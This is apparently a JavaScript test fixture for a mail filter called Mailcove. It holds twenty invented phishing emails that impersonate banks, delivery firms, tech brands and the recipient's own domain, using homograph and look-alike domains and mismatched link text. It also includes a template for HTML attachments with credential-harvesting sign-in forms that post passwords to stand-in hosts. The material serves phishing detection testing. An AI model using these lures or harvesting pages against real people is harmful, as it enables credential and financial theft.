// Phishing (20): brand and own-domain impersonation, look-alike and IDN homograph domains,
// links whose text names another domain, urgent wording, HTML attachments with sign-in forms.
// Written for Mailcove's tests; every domain below is invented (the xn-- ones are homographs of
// real brands, which is the point) and no real phishing mail was copied.

const loginPage = (brand, action, colour = '#0067b8') => `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>${brand} - Sign in</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:340px;margin:80px auto;background:#fff;padding:36px}</style></head>
<body><div class="box"><h2 style="color:${colour}">${brand}</h2><p>Your session has expired. Sign in again to view the document.</p>
<form method="POST" action="${action}">
<input type="email" name="login" placeholder="Email address" required><br>
<input type="password" name="passwd" placeholder="Password" required><br>
<input type="hidden" name="ref" value="doc-88213">
<button type="submit">Sign in</button></form></div>
<script>var u=atob("${Buffer.from('https://' + action.split('/')[2]).toString('base64')}");</script></body></html>`;

export const phishing = [
  { fromName: 'PayPal', from: 'service@paypal-secure-alerts.com', subject: 'Your account has been limited',
    paragraphs: ['Dear Customer,', 'We noticed unusual activity on your PayPal account. Your account has been limited until you verify your identity.', 'Please confirm your details within 24 hours, or your account will be permanently suspended.'],
    link: { text: 'https://www.paypal.com/signin', href: 'https://paypal-secure-alerts.com/webapps/signin/verify.php?session=8812' }, relay: 'vps-4471.hostingbox.top' },
  { fromName: 'Microsoft 365', from: 'no-reply@office365-renewal-notice.com', subject: 'Action required: your password expires today',
    paragraphs: ['Your Microsoft 365 password for alice@lakeside-studio.ch expires today.', 'Keep your current password to avoid losing access to your mailbox and files.'],
    button: { text: 'Keep current password', href: 'https://office365-renewal-notice.com/owa/keep/?u=alice@lakeside-studio.ch' }, relay: 'mail.office365-renewal-notice.com' },
  { fromName: 'Apple', from: 'no-reply@xn--pple-43d.com', subject: 'Your Apple ID has been locked',
    paragraphs: ['Your Apple ID was locked for security reasons because of a suspicious sign-in attempt.', 'To unlock it, verify your account information. If you do not verify within 48 hours, your Apple ID will be deleted.'],
    button: { text: 'Unlock Apple ID', href: 'https://xn--pple-43d.com/id/unlock' }, relay: 'srv1.xn--pple-43d.com' },
  { fromName: 'lakeside-studio.ch IT Helpdesk', from: 'helpdesk@mailbox-quota-center.net', subject: 'Mailbox quota exceeded — messages on hold',
    paragraphs: ['Dear alice@lakeside-studio.ch,', 'Your mailbox is full (99.8% of 2 GB used). 14 incoming messages are on hold and will be deleted.', 'Validate your mailbox now to release them and increase your quota free of charge.'],
    button: { text: 'Validate mailbox', href: 'https://mailbox-quota-center.net/lakeside-studio.ch/validate' }, relay: 'smtp.mailbox-quota-center.net' },
  { fromName: 'Lakeside Studio Administrator', from: 'admin@lakeside-studi0.ch', subject: 'Important: new webmail security policy',
    paragraphs: ['All staff must re-confirm their webmail password under the new security policy by Friday.', 'Failure to comply will lead to your account being disabled.'],
    button: { text: 'Confirm password', href: 'https://webmail.lakeside-studi0.ch/login' }, relay: 'mail.lakeside-studi0.ch' },
  { fromName: 'Accounts Payable', from: 'ap@northbridge-supplies.com', subject: 'Remittance advice — payment sent',
    paragraphs: ['Hello,', 'Please find attached the remittance advice for the payment sent today. Sign in with your email account to view the secure document.'],
    attachment: { filename: 'Remittance_Advice_0512.html', html: loginPage('Microsoft', 'https://collect.northbridge-files.top/owa/post.php') }, relay: 'mail.northbridge-supplies.com' },
  { fromName: 'DHL Express', from: 'notice@dhl-parcel-delivery.info', subject: 'Your parcel is waiting: customs fee CHF 2.99 unpaid',
    paragraphs: ['Your parcel 7731 2290 4418 is waiting at our depot.', 'A customs fee of CHF 2.99 is unpaid. Pay within 48 hours or the parcel will be returned to the sender.'],
    button: { text: 'Pay now', href: 'https://dhl-track-fee.com/pay?id=77312290' }, relay: 'cloud-88.vps-provider.xyz' },
  { fromName: 'Netflix', from: 'billing@netflix-accounts-update.com', subject: 'Payment declined — update your billing information',
    paragraphs: ['We were unable to process your last payment. Your membership is on hold.', 'Update your payment method to keep watching. If we do not hear from you within 24 hours your account will be closed.'],
    button: { text: 'Update payment', href: 'https://netflix-accounts-update.com/billing' }, relay: 'mail.netflix-accounts-update.com' },
  { fromName: 'Chase Bank Online', from: 'alerts@chase-secure-messaging.com', subject: 'Unauthorized transaction detected',
    paragraphs: ['We detected an unauthorized transaction of $842.19 on your account.', 'If you did not make this payment, sign in immediately to cancel it and confirm your identity.'],
    link: { text: 'www.chase.com/verify', href: 'http://203.0.113.77/chase/verify/' }, relay: 'host-203-0-113-77.example-isp.net' },
  { fromName: 'DocuSign', from: 'dse@docusign-envelopes.net', subject: 'Alice, please review and sign: Contract_2024.pdf',
    paragraphs: ['Northbridge Supplies sent you a document to review and sign.', 'Please sign in with your email credentials to access the document.'],
    button: { text: 'Review document', href: 'https://docu-review-center.weebly.com/sign' }, relay: 'mail.docusign-envelopes.net' },
  { fromName: 'Amazon', from: 'order-update@amaz0n-support.com', subject: 'Your order #114-8823176 has been cancelled',
    paragraphs: ['Your order for an iPhone 15 Pro (CHF 1,329.00) has been placed and will be charged to your card.', 'If you did not place this order, click below to cancel and verify your account immediately.'],
    button: { text: 'Cancel order', href: 'https://amaz0n-support.com/orders/cancel' }, relay: 'mail.amaz0n-support.com' },
  { fromName: 'Google', from: 'no-reply@security-check-center.top', subject: 'Security alert: new sign-in on Windows',
    paragraphs: ['Someone just used your password to sign in to your Google Account from Windows, Lagos, Nigeria.', 'If this was not you, secure your account now.'],
    link: { text: 'https://accounts.google.com/security', href: 'https://security-check-center.top/google/secure.php' }, relay: 'vm-2231.security-check-center.top' },
  { fromName: 'Coinbase', from: 'support@coinbase-wallet-verify.com', subject: 'Your wallet has been temporarily locked',
    paragraphs: ['We noticed a suspicious login to your Coinbase wallet. Withdrawals are disabled.', 'Verify your identity within 24 hours to restore access, or your funds will be frozen.'],
    button: { text: 'Restore access', href: 'https://coinbase-wallet-verify.com/restore' }, relay: 'mail.coinbase-wallet-verify.com' },
  { fromName: 'Swiss Post', from: 'paket@post-ch-zustellung.com', subject: 'Ihr Paket konnte nicht zugestellt werden',
    paragraphs: ['Ihr Paket konnte nicht zugestellt werden, da die Adresse unvollständig ist.', 'Bitte bestätigen Sie Ihre Adresse und zahlen Sie die Gebühr von CHF 1.95 innerhalb von 24 Stunden.'],
    button: { text: 'Adresse bestätigen', href: 'https://post-ch-zustellung.com/sendung' }, relay: 'mail.post-ch-zustellung.com' },
  { fromName: 'Outlook Web App', from: 'owa-admin@exchange-mailserver.online', subject: 'You have 5 pending messages',
    paragraphs: ['You have 5 pending incoming messages that could not be delivered to your inbox.', 'Sign in to release them.'],
    link: { text: 'Release messages', href: 'http://185.199.220.14/owa/auth/logon.aspx' }, relay: 'exchange-mailserver.online' },
  { fromName: 'Dropbox', from: 'no-reply@dropbox-shared-files.com', subject: 'Alice, Nadia shared "Q2 invoices" with you',
    paragraphs: ['Nadia shared a folder with you: Q2 invoices (12 files).', 'Open the attached secure viewer and sign in with your email to see the files.'],
    attachment: { filename: 'Q2_invoices_viewer.htm', html: loginPage('Dropbox', 'https://files-viewer.dropbox-shared-files.com/auth.php', '#0061ff') }, relay: 'mail.dropbox-shared-files.com' },
  { fromName: 'Apple Support', from: 'icloud.support.team2024@gmail.com', subject: 'iCloud storage full: your photos will be deleted',
    paragraphs: ['Your iCloud storage is full. Your photos and videos will be deleted in 48 hours.', 'Confirm your Apple ID and payment details to get 50 GB free.'],
    button: { text: 'Get 50 GB free', href: 'https://icloud-storage-bonus.com/claim' }, relay: 'mail-sor-f69.google.com', freemail: true },
  { fromName: 'Voicemail System', from: 'voicemail@lakesidestudio-voice.com', subject: 'New voicemail from +41 44 555 01 23 (0:42)',
    paragraphs: ['You received a new voicemail message (duration 0:42).', 'Open the attachment to listen. You may be asked to sign in with your lakeside-studio.ch account.'],
    attachment: { filename: 'VM_4415550123.html', html: loginPage('Office 365', 'https://vm-playback.lakesidestudio-voice.com/login.php') }, relay: 'mail.lakesidestudio-voice.com' },
  { fromName: 'LinkedIn', from: 'security@linkedln.com', subject: 'Your account was accessed from a new device',
    paragraphs: ['Your LinkedIn account was accessed from a new device in Minsk.', 'If this was not you, verify your account within 24 hours or it will be suspended.'],
    button: { text: 'Verify account', href: 'https://www.linkedln.com/checkpoint/verify' }, relay: 'mail.linkedln.com' },
  { fromName: 'PayPal', from: 'service@xn--ypal-43d9g.com', subject: 'Confirm your recent payment of 389.00 EUR',
    paragraphs: ['You sent a payment of 389.00 EUR to ElectroWorld Ltd.', 'If you did not authorize this payment, log in to your account immediately to dispute it.'],
    link: { text: 'www.paypal.com/dispute', href: 'https://xn--ypal-43d9g.com/dispute' }, relay: 'mx.xn--ypal-43d9g.com' },
];
